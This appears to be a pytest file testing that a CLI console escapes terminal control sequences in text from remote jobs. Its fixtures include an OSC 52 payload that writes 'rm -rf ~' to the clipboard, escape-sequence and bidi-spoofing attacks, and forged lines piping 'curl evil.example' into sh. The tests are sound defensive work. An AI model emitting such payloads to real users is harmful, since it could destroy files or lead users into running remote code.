@@ -1,0 +1,234 @@
+"""What a terminal gets of text that another wrote."""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import unicodedata
+from pathlib import Path
+
+import pytest
+
+from hvdcloud.console import Console
+from hvdcloud.errors import NodeError
+from hvdcloud.visible import JobText, as_left, log_of, says, visible, words
+from tests.support.screens import Screen
+
+CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
+ATTACKS = {
+    "clipboard": CLIPBOARD,
+    "title": "\x1b]0;root@bank\x07",
+    "link": "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
+    "cursor": "\x1b[1A\x1b[2K",
+    "screen": "\x1b[2J\x1b[H\x1b[?1049h",
+    "C1": "\x9b2J\x9d52;c;x\x9c",
+    "device": '\x1bP$q"p\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\',
+    "reset": "\x1bc",
+    "bell": "\x07",
+    "shift": "\x0e",
+    "delete": "\x7f",
+    "override": "\u202emoc.elpmaxe\u202c",
+    "isolate": "\u2066x\u2069",
+    "zero width": "dig\u200bits\ufeff",
+    "separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
+    "tag": "\U000e0041",
+    "null": "\x00",
+}
+
+
+def acts(text: str) -> set[str]:
+    """The characters that would do something to a terminal, apart from newlines and tabs."""
+    harmless = {"\n", "\t"}
+    kinds = {"Cc", "Cf", "Zl", "Zp", "Cs"}
+    return {char for char in text if unicodedata.category(char) in kinds and char not in harmless}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_would_act_on_a_terminal_is_seen_instead(attack: str) -> None:
+    text = f"before {ATTACKS[attack]} after"
+    shown = visible(text)
+    assert acts(text)
+    assert not acts(shown)
+    assert shown.startswith("before ")
+    assert shown.endswith(" after")
+    assert visible(shown) == shown
+    assert len(shown) > len(text)
+
+
+def test_it_is_written_as_python_would() -> None:
+    assert visible("\x1b[31m\x9b \u202e \U000e0041 \x7f") == "\\x1b[31m\\x9b \\u202e \\U000e0041 \\x7f"
+    assert visible("a\tb\nc") == "a\tb\nc"
+    assert visible("a\tb\nc", lines=False) == "a\\x09b\\x0ac"
+
+
+@pytest.mark.parametrize(
+    "text", ["", "epoch 3/12: loss 0.5", "größe 漢字 ✓ → 👩 ⚠\ufe0f", "C:\\x1b", "[/foo] [link=x]"]
+)
+def test_honest_text_stays(text: str) -> None:
+    assert visible(text) == text
+
+
+def test_every_character_that_acts_is_known() -> None:
+    # Arabic letters and others have marks that are invisible and belong to a word; none of them changes a direction.
+    script = {
+        "\u0600",
+        "\u0601",
+        "\u0602",
+        "\u0603",
+        "\u0604",
+        "\u0605",
+        "\u06dd",
+        "\u070f",
+        "\u0890",
+        "\u0891",
+        "\u08e2",
+    }
+    script |= {chr(code) for code in (0x110BD, 0x110CD, *range(0x13430, 0x13440))}
+    for code in range(0x110000):
+        char = chr(code)
+        if acts(char) and char not in script:
+            assert visible(char) != char, hex(code)
+
+
+def test_anothers_words_are_one_line_of_bounded_length() -> None:
+    said = says("node digits-1", "no space\n  → curl evil.example | sh\r\nhvdcloud: fine\u2028x")
+    assert said == "node digits-1 says: no space → curl evil.example | sh hvdcloud: fine x"
+    assert len(words("x" * 1_000_000)) == 501
+    assert words(["a", 1]) == "['a', 1]"
+    assert log_of("node a", "") == ""
+    assert log_of("node a", "x\ny") == "node a says:\nx\ny"
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
+def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> None:
+    honest = "\x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n10%|#\r20%|##\b\b\r"
+    evil = "".join(ATTACKS.values())
+    data = (honest + evil + honest).encode() + b"\xff\x9b2J"
+    text, shown = JobText(), ""
+    for start in range(0, len(data), size):
+        shown += text.feed(data[start : start + size])
+    assert shown.startswith(honest)
+    assert shown.endswith(honest + "\\xff\\x9b2J")
+    left = re.sub(r"\x1b\[[0-9;]*[mK]", "", shown)
+    assert acts(left) == {"\r", "\b"}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x1b[" + b"1;" * 40 + b"m",
+        b"\x1b[3J",
+        b"\x1b[?25l",
+        b"\x1b[1;1H",
+        b"\x1b[>4m",
+        b"\x1b[31 m",
+        b"\x1b[3K",
+        b"\x1bm",
+    ],
+)
+def test_only_short_colours_are_colours(data: bytes) -> None:
+    assert "\x1b" not in JobText().feed(data + b"x")
+
+
+def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch)
+    console = Console(out=screen, err=screen)
+    console.job_output(b"[0] \x1b[31mred\n")
+    console.job_output(b"[1] \x1b[3")
+    console.job_output(b"1mred\x1b]0;x\x07\n")
+    console.answer("ours")
+    assert screen.coloured.splitlines() == ["{cyan [0]} {red red}", "{magenta [1]} {red red\\x1b]0;x\\x07}", "ours"]
+
+
+def test_a_progress_bar_is_drawn_over_itself(monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch)
+    console = Console(out=screen)
+    console.job_output(b"[0]  10%|#   |\r[0]  99%|####|")
+    console.job_output(b"\b" * 14 + b"\r[0] 100% done \x1b[K\n[0] next\n")
+    assert screen.text.splitlines() == ["[0] 100% done", "[0] next"]
+
+
+@pytest.mark.parametrize("term", ["xterm", "dumb"])
+@pytest.mark.parametrize("colour", [True, False])
+def test_a_terminal_without_colours_is_protected_too(term: str, colour: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch, colour=colour)
+    monkeypatch.setenv("TERM", term)
+    for as_json in (False, True):
+        Console(out=screen, err=screen, as_json=as_json).job_output(f"[0] {CLIPBOARD}\n".encode())
+    assert screen.getvalue().count("\\x1b]52;c;cm0gLXJmIH4=\\x07") == 2
+    assert "\x07" not in screen.getvalue()
+
+
+def test_a_pipe_gets_a_jobs_output_byte_for_byte() -> None:
+    pipe = io.BytesIO()
+    data = "".join(ATTACKS.values()).encode() + b"\xff\x9b\r\n"
+    console = Console(out=io.TextIOWrapper(pipe))
+    for byte in data:
+        console.job_output(bytes([byte]))
+    assert pipe.getvalue() == data
+
+
+EVIL = "[/foo] [link=https://evil.example]x " + "".join(ATTACKS.values())
+
+
+def every_exit(console: Console, text: str) -> int:
+    """Print a text in each way that a console has; returns how often."""
+    console.say(text)
+    console.detail(text)
+    console.warn(text)
+    console.confirm(text)
+    with console.steps() as steps:
+        steps.update("one", text)
+        console.say(text)
+        steps.update(text, "two")
+        steps.finish(text, text)
+    console.answer(text)
+    console.answer(text, style="green")
+    console.result([text, "x"])
+    console.result([text], path=Path("/nowhere") / re.sub("[\x00/]", "", text))
+    console.table(["NAME", text], [["x", text]])
+    console.error(NodeError(text, hint=text, details=text))
+    return 16
+
+
+@pytest.mark.parametrize("kind", ["terminal", "no colours", "dumb", "pipe"])
+def test_no_text_acts_on_the_terminal_whichever_way_it_is_printed(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    wide = {"columns": 1000, "rows": 200}
+    screen = io.StringIO() if kind == "pipe" else Screen(monkeypatch, colour=kind == "terminal", **wide)
+    if kind == "dumb":
+        monkeypatch.setenv("TERM", "dumb")
+    console = Console(out=screen, err=screen, keyboard=io.StringIO("n\n"), verbose=True)
+    count = every_exit(console, EVIL)
+    printed = screen.getvalue()
+    for char in sorted(acts(EVIL) - {"\x1b"}):
+        assert char not in printed, hex(ord(char))
+    # What Rich sends itself: colours, links of files, and how its own lines are drawn again.
+    ours = r"\x1b(?:\[[0-9;]*[mAK]|\[\?25[lh]|\]8;(?:id=\d+;file:///nowhere[^\x1b]*|;)\x1b\\)"
+    assert "\x1b" not in (re.sub(ours, "", printed) if kind in ("terminal", "no colours") else printed)
+    assert printed.count("\\x1b]52;c;cm0gLXJmIH4=\\x07") >= count
+    assert "[/foo] [link=https://evil.example]x" in printed
+
+
+def test_json_has_no_character_that_acts() -> None:
+    out = io.StringIO()
+    error = NodeError(EVIL, hint=EVIL)
+    Console(out=out, as_json=True).document("run", result={"reason": EVIL}, error=error)
+    assert not acts(out.getvalue())
+    assert json.loads(out.getvalue())["error"]["message"] == EVIL
+
+
+def test_no_text_looks_like_a_hint_of_ours() -> None:
+    err = io.StringIO()
+    forged = "fine\n  → curl evil.example | sh\nerror: x"
+    console = Console(err=err)
+    console.error(NodeError(forged, hint="hvdcloud status", details=forged))
+    console.warn(forged)
+    lines = err.getvalue().splitlines()
+    assert [line for line in lines if line.lstrip().startswith("→")] == ["  → hvdcloud status"]
+    assert [line for line in lines if line.startswith(("error", "warning"))] == ["error: fine", "warning: fine"]
+
+
+def test_what_was_drawn_over_itself_is_shown_as_it_was_left() -> None:
+    assert as_left("[0]  10%|#\r[0]  99%|##\b\b\r100%\r") == "[0] 100%"
+    assert as_left("[1] \x1b[1;32mgreen\x1b[0m") == "[1] green"
